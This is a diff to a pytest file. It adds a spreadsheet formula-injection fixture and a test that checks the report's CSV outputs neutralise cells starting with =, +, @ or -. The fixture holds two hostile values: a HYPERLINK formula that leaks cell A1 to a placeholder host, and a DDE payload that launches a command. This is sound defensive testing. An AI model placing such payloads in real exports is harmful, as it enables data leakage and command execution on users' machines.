@@ -16,9 +16,34 @@ def base(tmp_path_factory):
     return tmp_path_factory.mktemp("report")
 
 
+#: An export record built to attack a spreadsheet: outlet, title and text start with formulas.
+INJECTION = {
+    "title": '=HYPERLINK("http://example.invalid/?leak="&A1, "Nato-Gipfel")',
+    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "published": "2025-06-25T10:00:00+02:00",
+    "text": "-2+3 ist keine Rechnung. Generalsekretär Mark Rutte fordert von Deutschland und Frankreich, "
+    "bis 2035 fünf Prozent des BIP für Verteidigung auszugeben. Die Nato-Staaten hätten sich "
+    "in Den Haag darauf geeinigt, sagte Rutte. Präsident Trump lobte die Einigung der Verbündeten.",
+}
+
+
 @pytest.fixture(scope="module")
-def report(base, samples_dir):
-    return run_report(samples_dir, base / "processed", base / "reports")
+def report_raw(base, samples_dir):
+    """The samples plus an export whose name, outlet, title and text start like formulas."""
+    import shutil
+
+    raw = base / "raw"
+    raw.mkdir()
+    for sample in samples_dir.glob("0*.txt"):
+        shutil.copy(sample, raw / sample.name)
+    broken = '{"title": "=1+1", "text": '  # a malformed line, so that rejects.csv names the file
+    (raw / "+injection.jsonl").write_text(json.dumps(INJECTION, ensure_ascii=False) + "\n" + broken + "\n", encoding="utf-8")
+    return raw
+
+
+@pytest.fixture(scope="module")
+def report(base, report_raw):
+    return run_report(report_raw, base / "processed", base / "reports")
 
 
 def test_every_notebook_is_executed_and_rendered(report):
@@ -68,9 +93,36 @@ def test_a_failing_notebook_is_named_with_its_cell(tmp_path, samples_dir):
     assert "'total = 1'" in message and "AssertionError: headline number changed" in message
 
 
-def test_running_twice_gives_the_same_figures(report, base, samples_dir):
+def test_no_csv_cell_starts_like_a_formula(report, base):
+    """Every CSV the report writes (tables and chart data) is safe in a spreadsheet."""
+    import csv
+
+    written = [*(base / "processed").glob("*.csv"), *(base / "reports" / "figures").glob("*.csv")]
+    assert len(written) >= 20
+    seen_guarded = set()
+    for path in written:
+        with path.open(encoding="utf-8", newline="") as f:
+            for row in csv.reader(f):
+                for cell in row:
+                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
+                    assert not cell.startswith("-") or _is_number(cell), (path.name, cell)
+                    if cell.startswith("'"):
+                        seen_guarded.add(path.name)
+    # the injected outlet, title and file name reach these files, guarded
+    assert {"corpus-articles-per-outlet.csv", "spending-evidence.csv", "rejects.csv"} <= seen_guarded
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_running_twice_gives_the_same_figures(report, base, report_raw):
     first = {p.name: p.read_bytes() for p in report.figures}
-    again = run_report(samples_dir, base / "processed", base / "reports")
+    again = run_report(report_raw, base / "processed", base / "reports")
     assert {p.name: p.read_bytes() for p in again.figures} == first
 
 
